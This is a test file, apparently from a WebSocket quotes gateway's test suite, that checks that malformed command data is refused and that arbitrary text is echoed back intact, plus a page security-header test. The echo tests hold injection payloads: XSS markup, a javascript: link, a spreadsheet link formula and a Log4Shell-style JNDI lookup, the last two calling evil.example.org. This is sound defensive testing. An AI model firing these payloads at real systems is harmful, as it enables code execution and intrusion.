import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { expectCounted, refusedMessages } from '../harness/counted.js';
import { expectHealthy, expectUsable } from '../harness/healthy.js';
import type { TestClient } from '../harness/test-client.js';
import { TestGateway } from '../harness/test-gateway.js';
import { adminToken } from '../harness/test-token.js';

let gateway: TestGateway;
let client: TestClient;

beforeAll(async () => {
  gateway = await TestGateway.start({ DEMO: 'true' });
});
beforeEach(async () => {
  client = await gateway.signIn('alice');
});
afterEach(async () => {
  client.terminate();
  await expectHealthy(gateway);
});
afterAll(() => gateway.close());

describe('data that breaks a rule of its command', () => {
  const canary = 'canary';

  it.each<[string, string, unknown, string]>([
    ['no data', 'quotes.subscribe', undefined, 'symbols'],
    ['null as data', 'quotes.subscribe', null, 'symbols'],
    ['a text as data', 'quotes.subscribe', canary, 'symbols'],
    ['a number as data', 'quotes.subscribe', 7, 'symbols'],
    ['a boolean as data', 'quotes.subscribe', true, 'symbols'],
    ['an empty list as data', 'quotes.subscribe', [], 'symbols'],
    ['a list as data', 'quotes.subscribe', [{ symbols: ['AAPL'] }], 'symbols'],
    ['a missing field', 'quotes.subscribe', {}, 'symbols'],
    ['null in a field', 'quotes.subscribe', { symbols: null }, 'symbols'],
    ['a text for a list', 'quotes.subscribe', { symbols: canary }, 'symbols'],
    ['an object for a list', 'quotes.subscribe', { symbols: { 0: 'AAPL', length: 1 } }, 'symbols'],
    ['an empty list', 'quotes.subscribe', { symbols: [] }, 'symbols'],
    ['a list of numbers', 'quotes.subscribe', { symbols: [1] }, 'symbols'],
    ['a list of lists', 'quotes.subscribe', { symbols: [['AAPL']] }, 'symbols'],
    ['a list with null', 'quotes.subscribe', { symbols: ['AAPL', null] }, 'symbols'],
    ['an empty symbol', 'quotes.subscribe', { symbols: [''] }, 'symbols'],
    ['a blank symbol', 'quotes.subscribe', { symbols: ['  '] }, 'symbols'],
    ['a wildcard', 'quotes.subscribe', { symbols: ['*'] }, 'symbols'],
    ['a path', 'quotes.subscribe', { symbols: ['../AAPL'] }, 'symbols'],
    ['an over-long symbol', 'quotes.subscribe', { symbols: [canary.repeat(6)] }, 'symbols'],
    ['a symbol with NUL', 'quotes.subscribe', { symbols: ['AAPL\0'] }, 'symbols'],
    ['a symbol with a line break', 'quotes.subscribe', { symbols: ['AAPL\n'] }, 'symbols'],
    ['half a surrogate pair', 'quotes.subscribe', { symbols: ['\ud800'] }, 'symbols'],
    ['a look-alike letter', 'quotes.subscribe', { symbols: ['\u0410APL'] }, 'symbols'],
    ['an unknown mode', 'quotes.subscribe', { symbols: ['AAPL'], mode: canary }, 'mode'],
    ['an unknown field', 'quotes.subscribe', { symbols: ['AAPL'], canary: 1 }, '(unknown field)'],
    ['no data to unsubscribe', 'quotes.unsubscribe', undefined, 'symbols'],
    ['a list to unsubscribe', 'quotes.unsubscribe', [], 'symbols'],
    ['a missing token', 'auth.refresh', {}, 'token'],
    ['a token in a list', 'auth.refresh', { token: [canary] }, 'token'],
    ['a token as object', 'auth.refresh', { token: { toString: canary } }, 'token'],
    ['an empty token', 'auth.refresh', { token: '' }, 'token'],
    ['an over-long token', 'auth.refresh', { token: canary.repeat(2000) }, 'token'],
    ['no ids to acknowledge', 'updates.ack', { ids: [] }, 'ids'],
    ['numbers to acknowledge', 'updates.ack', { ids: [7] }, 'ids'],
    ['an over-long id', 'updates.ack', { ids: [canary.repeat(11)] }, 'ids'],
    ['too many ids', 'updates.ack', { ids: Array(101).fill('x') }, 'ids'],
  ])('%s: the field is named, its value is not', async (_name, event, data, field) => {
    await expectCounted(gateway, refusedMessages('validation'), async () => {
      const answer = await client.request(event, data);
      expect(answer).toMatchObject({ event: 'error', data: { code: 'validation', retryable: false } });
      expect(answer.data.fields.map((rule: string) => rule.split(/[.:]/)[0])).toContain(field);
      expect(JSON.stringify(answer)).not.toContain(canary);
    });
    await expectUsable(client);
    expect((await client.request('quotes.list')).data).toEqual({ symbols: [] });
  });
});

describe('text of any kind comes back as it was sent', () => {
  it.each([
    ['markup', '<img src=x onerror=alert(1)><script>alert(1)</script>'],
    ['a link that runs', 'javascript:alert(1)'],
    ['a formula', '=HYPERLINK("http://evil.example.org","x")'],
    ['a template', '${jndi:ldap://evil.example.org/a} {{7*7}}'],
    ['right to left', '\u202Eمرحبا\u202C'],
    ['zero width', 'a\u200Bb\u200Dc\uFEFF'],
    ['emoji', '👩‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿'],
    ['line ends and control characters', 'a\r\nb\u2028c\u001B[31md\0'],
    ['half a surrogate pair', '\ud83d'],
  ])('%s', async (_name, text) => {
    expect((await client.request('echo', { text })).data).toEqual({ text });

    await gateway.rest
      .post('/v1/updates')
      .set('authorization', `Bearer ${adminToken()}`)
      .send({ target: { users: ['alice'] }, event: 'note', data: { text }, delivery: 'live' })
      .expect(202);
    expect((await client.next('update')).data.data).toEqual({ text });
  });
});

it('the page of the gateway runs nothing but its own files', async () => {
  const { headers } = await gateway.rest.get('/').expect(200);
  const policy = headers['content-security-policy'];
  expect(policy).toContain("default-src 'none'");
  expect(policy).toContain("script-src 'self'");
  expect(policy).not.toContain('unsafe');
  expect(headers['x-content-type-options']).toBe('nosniff');
});
